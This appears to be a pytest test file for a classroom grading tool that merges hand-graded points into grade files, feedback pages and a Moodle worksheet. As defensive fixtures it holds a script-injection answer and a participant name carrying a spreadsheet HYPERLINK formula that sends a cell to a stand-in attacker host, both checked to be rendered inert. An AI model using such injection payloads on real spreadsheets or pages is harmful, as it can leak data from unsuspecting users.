"""Hand-graded exercises in the round trip (issue 37): `grade` collects the written answers into one
page per exercise and writes an empty points file; `merge-points` merges the teacher's points into
the grades CSV, the feedback pages and Moodle's worksheet (only its grade and feedback columns
change), and refuses bad points naming the row, changing nothing. A second grading never mixes
with the first. No sandbox runs here: the results are assembled from made-up verdicts, and the one
test of the real `grade` runs its three notebooks without the sandbox (--trusted-code)."""

from __future__ import annotations

import csv
import io
import json
import sys
import zipfile
from pathlib import Path

import nbformat
import pytest

sys.path.insert(0, str(Path(__file__).parent / "fixtures"))

import moodle
from moodle import FEEDBACK, GRADE

from gamekit.course import grade, handgrade, lms
from gamekit.course.__main__ import main
from gamekit.course.cases import SPEC_FILE

ROOT = Path(__file__).resolve().parent.parent
NAME = "01-x"
PARTICIPANTS = ["4711", "4712", "4713"]
ANSWERS = {
    "4711": "A die brings chance: Zermelo needs a game without chance.",
    "4712": "<script>alert('hi')</script> & the game never ends",
    "4713": "_Type your answer here, replacing this text._",  # not answered
}


def _case(cid: str, name: str, hidden: bool, hint: str = "") -> dict:
    return {"id": cid, "names": [name], "hidden": hidden, "probe": None, "calls": [],
            "points": 1.0 if hidden else 0.0, "failure_message": hint, "judge": ""}  # fmt: skip


SPEC = {
    "version": 1,
    "assignment": NAME,
    "lesson": [],
    "answers": [],
    "questions": [
        {"name": "q1_1", "points": 1.0, "manual": False,
         "cases": [_case("q1_1.0", "answer_1_1", False, "a list"), _case("q1_1.1", "answer_1_1", True, "try 13")]},
        {"name": "q1_2", "points": 1.0, "manual": False,
         "cases": [_case("q1_2.0", "answer_1_2", False, "a pair"), _case("q1_2.1", "answer_1_2", True)]},
        {"name": "q1_3", "points": 2.0, "manual": True, "cases": []},
    ],
}  # fmt: skip


def _autograder(tmp_path: Path) -> Path:
    path = tmp_path / f"{NAME}-autograder.zip"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("otter_config.json", json.dumps({"assignment_name": NAME}))
        z.writestr(SPEC_FILE, json.dumps(SPEC))
    return path


def _notebook(answer: str) -> nbformat.NotebookNode:
    md, code = nbformat.v4.new_markdown_cell, nbformat.v4.new_code_cell
    nb = nbformat.v4.new_notebook()
    nb.cells = [
        code(f'grader = PublicChecks("{NAME}")'),
        md("**Exercise 1.1** (predict)"),
        code("answer_1_1 = [3]"),
        code('grader.check("q1_1")'),
        md("**Exercise 1.2** (compute)"),
        code("answer_1_2 = (1, 2)"),
        code('grader.check("q1_2")'),
        md("<!-- BEGIN QUESTION -->\n\n**Exercise 1.3** (explain) Which condition of Zermelo's theorem fails?"),
        md(answer, metadata={"tags": ["otter_answer_cell"]}),
        md("<!-- END QUESTION -->\n\n## Summary\nThat is all."),
    ]
    return nb


def _graded(tmp_path: Path) -> tuple[list[grade.SubmissionResult], grade.Autograder, Path]:
    """Three participants graded (4711 all right, 4712 has 1.2 wrong, 4713 both), reports written."""
    grader = grade.Autograder.load(_autograder(tmp_path))
    every = {c["id"] for q in SPEC["questions"] for c in q["cases"]}
    # 4711 all right; 4712's 1.2 has the right form (its public check passes) but not the right value
    passed = {"4711": every, "4712": {"q1_1.0", "q1_1.1", "q1_2.0"}, "4713": set()}
    results = []
    for who in PARTICIPANTS:
        nb = _notebook(ANSWERS[who])
        path = tmp_path / "subs" / who / "lesson.ipynb"
        path.parent.mkdir(parents=True)
        nbformat.write(nb, path)
        verdicts = {cid: {"passed": cid in passed[who], "why": "x"} for cid in every}
        run = grade.SandboxRun(checks={cid: cid in passed[who] for cid in every if "." in cid})
        res = grade.assemble(grade.Submission(who, path, NAME), grader, nb, run, verdicts)
        res.by_hand = handgrade.hand_answers(nb, grader)
        results.append(res)
    out = tmp_path / "grades"
    grade.write_reports(results, {NAME: grader}, out)
    return results, grader, out


def _rows(path: Path) -> list[dict]:
    return list(csv.DictReader(path.open(encoding="utf-8")))


def test_every_question_is_named_as_its_notebook_names_the_exercise():
    """The masters' question ids (q1_6) and the exercise headings below them (**Exercise 1.6**) agree,
    so the CSV and the pages can say "Exercise 1.6" and the worksheet still finds its question."""
    checked = 0
    for path in sorted((ROOT / "notebooks").glob("[01][0-9]-*.ipynb")):
        cells = nbformat.read(path, as_version=4).cells
        for i, cell in enumerate(cells):
            if cell.cell_type == "raw" and cell.source.startswith("# BEGIN QUESTION"):
                name = next(
                    line.split(":", 1)[1].strip() for line in cell.source.splitlines() if line.startswith("name:")
                )
                heading = next(c.source for c in cells[i + 1 :] if c.cell_type == "markdown")
                assert heading.startswith(f"**{handgrade.exercise_label(name)}**"), (path.name, name, heading[:40])
                checked += 1
    assert checked >= 50
    assert handgrade.exercise_label("q10_4") == "Exercise 10.4" and handgrade.exercise_label("q3") == "q3"


def test_grade_collects_the_written_answers_into_one_page_per_exercise(tmp_path):
    results, grader, out = _graded(tmp_path)
    [header, *_] = list(csv.reader((out / f"{NAME}.csv").open(encoding="utf-8")))
    assert header[:4] == ["student", "Exercise 1.1", "Exercise 1.2", "Exercise 1.3 (by hand, up to 2 points)"]
    assert json.loads((out / f"{NAME}.json").read_text())["exercises"]["q1_3"] == "Exercise 1.3"
    page = (out / "hand" / NAME / "exercise-1.3.html").read_text(encoding="utf-8")
    assert "Which condition of Zermelo&#x27;s theorem fails?" in page and "BEGIN QUESTION" not in page
    assert ANSWERS["4711"] in page and "<script>alert" not in page and "&lt;script&gt;alert" in page
    sections = page.split("<section>")[1:]
    assert [s.split("</h2>")[0].removeprefix("<h2>") for s in sections] == PARTICIPANTS
    assert "not answered" in sections[2] and "not answered" not in sections[0]
    assert all('type="number" min="0" max="2"' in s for s in sections)
    points = _rows(handgrade.hand_points_path(out, NAME))
    assert [(r["participant"], r["Exercise 1.3 (0 to 2 points)"]) for r in points] == [(p, "") for p in PARTICIPANTS]
    feedback = (out / "feedback" / NAME / "4711.html").read_text(encoding="utf-8")
    assert "2 of 2 points from the autograder; up to 2 more points from exercises your teacher grades" in feedback
    assert "in all" not in feedback and "graded by your teacher: up to 2 points, not given yet" in feedback


def test_every_zero_on_the_feedback_page_says_why(tmp_path):
    _, _, out = _graded(tmp_path)
    page = (out / "feedback" / NAME / "4713.html").read_text(encoding="utf-8")
    rows = page.split("<tr>")[2:4]  # Exercise 1.1 and 1.2, both 0
    assert all("<td>0 / 1</td>" in r for r in rows)
    assert "hint: a list" in rows[0] and "hint: try 13" in rows[0]  # the hidden test's own message
    assert "hint: a pair" in rows[1]
    right_form = (out / "feedback" / NAME / "4712.html").read_text(encoding="utf-8").split("<tr>")[3]
    assert "<td>0 / 1</td>" in right_form and "hidden tests do not accept it yet" in right_form


def _worksheet(tmp_path: Path, results, grader) -> tuple[Path, bytes]:
    rows = moodle.worksheet_rows([4711, 4712, 4713, 4714], "de")  # 4714 handed in nothing
    sheet = tmp_path / "Bewertungen.csv"
    original = moodle.worksheet_bytes(rows)
    sheet.write_bytes(original)
    lms.fill_moodle_worksheet(sheet, results, grader)  # what `grade --moodle-worksheet` did
    return sheet, original


def test_hand_points_merge_into_the_csv_the_pages_and_the_worksheet(tmp_path, capsys):
    results, grader, out = _graded(tmp_path)
    sheet, original = _worksheet(tmp_path, results, grader)
    assert _cells(sheet)[1][GRADE] == "50,00"  # 2 automatic points of 4 before the hand points
    points = handgrade.hand_points_path(out, NAME)
    # the file grade wrote, filled in and saved as a German spreadsheet saves it: a byte-order mark,
    # semicolons, a decimal comma; 4713 not graded yet
    table = list(csv.reader(io.StringIO(points.read_text(encoding="utf-8"))))
    table[1][2], table[2][2] = "2", "1,5"
    points.write_bytes(b"\xef\xbb\xbf" + "".join(";".join(r) + "\r\n" for r in table).encode("utf-8"))
    code = main(["merge-points", str(points), "--grades", str(out), "--moodle-worksheet", str(sheet)])
    assert code == 0, capsys.readouterr().err
    assert "points for 2 answer(s) merged (3 participant(s) in the file)" in capsys.readouterr().out
    rows = {r["student"]: r for r in _rows(out / f"{NAME}.csv")}
    hand = "Exercise 1.3 (by hand, up to 2 points)"
    assert [(rows[p][hand], rows[p]["total"]) for p in PARTICIPANTS] == [("2", "4"), ("1.5", "2.5"), ("", "0")]
    # the worksheet: full totals over all 4 points, and every byte but the two columns as Moodle wrote it
    merged, _ = grade.load_results(out, NAME)
    expected = {
        int(r.student): (g, lms.moodle_feedback(r, grader)) for r, g in zip(merged, ["100,00", "62,50", "0,00"])
    }
    assert sheet.read_bytes() == moodle.worksheet_bytes(moodle.worksheet_rows([4711, 4712, 4713, 4714], "de", expected))
    before, after = _cells_of(original), _cells(sheet)
    assert {k for a, b in zip(before, after) for k in range(len(a)) if a[k] != b[k]} == {GRADE, FEEDBACK}
    assert after[4] == before[4]  # 4714: no submission, the row as it was
    assert "Exercise 1.3: 2 of 2 (graded by your teacher)" in after[1][FEEDBACK]
    assert "up to 2 points (not given yet)" in after[3][FEEDBACK]
    # every missing point says why in the comment too: 4712's 1.2 has the right form, 4713's 1.1 a hint
    assert "Exercise 1.2: 0 of 1; the answer has the right form but is not accepted yet" in after[2][FEEDBACK]
    assert "Exercise 1.1: 0 of 1; public checks passed 0 of 1; hint: a list." in after[3][FEEDBACK]
    page = (out / "feedback" / NAME / "4711.html").read_text(encoding="utf-8")
    assert "2 of 2 points from the autograder, 2 of 2 from your teacher" in page and "up to" not in page
    assert "up to 2 more points" in (out / "feedback" / NAME / "4713.html").read_text(encoding="utf-8")


def _cells(sheet: Path) -> list[list[str]]:
    return _cells_of(sheet.read_bytes())


def _cells_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    "rows, said",
    [
        ("4711,,3\n", "row 2 (participant '4711'), Exercise 1.3: '3' is not a number from 0 to 2"),
        ("4711,,-1\n", "'-1' is not a number from 0 to 2"),
        ("4711,,zwei\n", "'zwei' is not a number from 0 to 2"),
        ("4711,,nan\n", "'nan' is not a number"),
        ("4711,,1\n9999,,1\n", "row 3 (participant '9999'): no such participant in this grading"),
        ("4711,,1\n4711,,2\n", "row 3 (participant '4711'): a second row for this participant"),
    ],
)
def test_bad_points_are_refused_naming_the_row_and_nothing_changes(tmp_path, capsys, rows, said):
    results, grader, out = _graded(tmp_path)
    sheet, _ = _worksheet(tmp_path, results, grader)
    points = tmp_path / f"{NAME}-hand-points.csv"
    points.write_text("participant,file,Exercise 1.3 (0 to 2 points)\n" + rows, encoding="utf-8")
    before = {p: p.read_bytes() for p in [sheet, *out.rglob("*")] if p.is_file()}
    assert main(["merge-points", str(points), "--grades", str(out), "--moodle-worksheet", str(sheet)]) == 2
    err = capsys.readouterr().err
    assert said in err and "nothing was merged" in err
    assert {p: p.read_bytes() for p in [sheet, *out.rglob("*")] if p.is_file()} == before


def test_a_column_that_is_no_hand_graded_exercise_is_refused(tmp_path):
    results, grader, _ = _graded(tmp_path)
    points = tmp_path / "p.csv"
    points.write_text("participant,Exercise 1.1\n4711,1\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"column 'Exercise 1\.1' is not an exercise of 01-x graded by hand"):
        handgrade.read_hand_points(points, grader, PARTICIPANTS)
    points.write_text("participant,Exercise 1.3\n4711,\n", encoding="utf-8")  # one exercise, a page's saved form
    assert handgrade.read_hand_points(points, grader, PARTICIPANTS).points == {"4711": {"q1_3": None}}


def test_a_second_grading_keeps_the_first_and_never_mixes_their_pages(tmp_path):
    results, grader, out = _graded(tmp_path)
    folder = tmp_path / "subs2"
    folder.mkdir()
    nb = _notebook("again")
    nb.metadata["otter"] = {"assignment_name": NAME}
    nbformat.write(nb, folder / "4799.ipynb")
    first = {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    with pytest.raises(ValueError, match=r"already holds a grading of 01-x .*--replace"):
        grade.grade(folder, [grader.zip], out, trusted_code=True)  # refused before anything runs
    assert {p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()} == first
    moved = handgrade.set_aside_earlier_run(out, [NAME], replace=True)
    assert moved == {NAME: out / "earlier" / f"{NAME}-1"}
    assert handgrade.run_files(out, NAME) == []  # the new run starts in an empty place
    kept = {p.relative_to(moved[NAME]): p.read_bytes() for p in moved[NAME].rglob("*") if p.is_file()}
    assert kept == first
    grade.write_reports(results[:1], {NAME: grader}, out)
    assert handgrade.set_aside_earlier_run(out, [NAME], replace=True) == {NAME: out / "earlier" / f"{NAME}-2"}


def _class(folder: Path, answers: dict[str, str]) -> Path:
    folder.mkdir()
    for who, answer in answers.items():
        nb = _notebook(answer)
        nb.metadata["otter"] = {"assignment_name": NAME}
        nbformat.write(nb, folder / f"{who}.ipynb")
    return folder


def _files(folder: Path, leave_out: str | None = None) -> dict[str, bytes]:
    """Every file under `folder` by its relative path (without those under `leave_out`)."""
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file() and not (leave_out and p.relative_to(folder).parts[0] == leave_out)
    }


def test_grading_again_into_the_same_folder_needs_replace_and_keeps_the_first_run_under_earlier(tmp_path, capsys):
    """The real `grade` twice into one folder (the command line, notebooks run without the sandbox:
    about a second): refused without --replace, changing nothing; with it, the folder holds the
    second run's pages only, the first run (with the points the teacher had typed) under earlier/."""
    autograder = str(_autograder(tmp_path))
    out = tmp_path / "grades"

    def grade_(folder: Path, *extra: str) -> int:
        return main(["grade", str(folder), "--autograder", autograder, "--grades", str(out), "--trusted-code", *extra])

    assert grade_(_class(tmp_path / "first", ANSWERS)) == 0, capsys.readouterr().err
    points = handgrade.hand_points_path(out, NAME)
    points.write_text(points.read_text(encoding="utf-8").replace('"4711.ipynb",', '"4711.ipynb",2'), encoding="utf-8")
    first = _files(out)
    assert {p for p in first if p.startswith("feedback/")} == {f"feedback/{NAME}/{p}.html" for p in PARTICIPANTS}
    capsys.readouterr()

    second = _class(tmp_path / "second", {"4799": "The second run's only answer."})
    assert grade_(second) == 2  # refused before anything ran: no submission graded, not a byte changed
    said = capsys.readouterr()
    assert f"already holds a grading of {NAME}" in said.err and "--replace" in said.err and "[1/1]" not in said.err
    assert _files(out) == first

    assert grade_(second, "--replace") == 0, capsys.readouterr().err
    assert "[1/1] 4799" in capsys.readouterr().err
    assert _files(out / "earlier" / f"{NAME}-1") == first  # the first run whole, the teacher's points in it
    assert '"4711.ipynb",2' in (out / "earlier" / f"{NAME}-1" / points.name).read_text(encoding="utf-8")
    now = _files(out, leave_out="earlier")
    assert sorted(now) == sorted(
        [f"{NAME}.csv", f"{NAME}.json", f"{NAME}-hand-points.csv", f"feedback/{NAME}/4799.html",
         f"hand/{NAME}/exercise-1.3.html"]
    )  # fmt: skip
    assert [r["student"] for r in _rows(out / f"{NAME}.csv")] == ["4799"]
    assert [r["participant"] for r in _rows(points)] == ["4799"] and ",2" not in points.read_text(encoding="utf-8")
    assert [r.student for r in grade.load_results(out, NAME)[0]] == ["4799"]
    page = (out / "hand" / NAME / "exercise-1.3.html").read_text(encoding="utf-8")
    assert page.count("<section>") == 1 and "The second run&#x27;s only answer." in page
    text = b"".join(now.values()).decode("utf-8")
    assert not any(p in text for p in PARTICIPANTS) and ANSWERS["4711"] not in text  # nothing of the first run

    assert grade_(second, "--replace") == 0  # a third run: the second goes beside the first, which stays
    assert _files(out / "earlier" / f"{NAME}-1") == first
    assert _files(out / "earlier" / f"{NAME}-2") == now


def test_a_pdf_only_upload_is_summarised_as_no_notebook(tmp_path, capsys):
    from gamekit.course.__main__ import _say_filled

    archive = tmp_path / "all.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr(f"{moodle.folder_name(0, 4711)}/lesson.ipynb", b"{}")
        z.writestr(f"{moodle.folder_name(1, 4714)}/abgabe.pdf", b"%PDF-1.4")
    got = lms.moodle_submissions(archive, into=tmp_path / "unpacked")
    assert got.uploads == {"4711": ["lesson.ipynb"], "4714": ["abgabe.pdf"]}
    _say_filled(Path("w.csv"), lms.FillReport(filled=["4711"], untouched=["4714", "4715"]), got)
    assert "1 row(s) filled, 2 left as they were (1 without a submission, 1 with no notebook: 4714 " \
        "(uploaded: abgabe.pdf))" in capsys.readouterr().out  # fmt: skip


def test_a_participant_named_like_a_formula_is_inert_in_the_points_file_and_still_found(tmp_path):
    grader = grade.Autograder.load(_autograder(tmp_path))
    evil = '=HYPERLINK("http://evil.example?"&C2,"x")'
    res = grade.SubmissionResult(evil, NAME, tmp_path / "-1+1.ipynb")
    handgrade.write_hand_pages([res], grader, tmp_path / "grades")
    text = handgrade.hand_points_path(tmp_path / "grades", NAME).read_text(encoding="utf-8")
    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://evil.example?""&C2,""x"")","\'-1+1.ipynb",'
    filled = tmp_path / "p.csv"
    filled.write_text(text.replace('.ipynb",', '.ipynb",1.5'), encoding="utf-8")
    assert handgrade.read_hand_points(filled, grader, [evil]).points == {evil: {"q1_3": 1.5}}
